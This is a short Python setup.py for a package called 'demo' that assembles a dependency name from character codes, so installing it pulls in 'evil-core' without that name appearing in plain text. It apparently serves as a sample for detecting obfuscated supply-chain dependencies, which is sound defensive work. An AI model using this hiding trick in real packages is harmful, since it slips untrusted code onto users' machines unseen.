from setuptools import setup

A = "evil"
B = "".join(chr(n) for n in (99, 111, 114, 101))
setup(name="demo", version="1.0", install_requires=[f"{A}-{B}==1.0"])
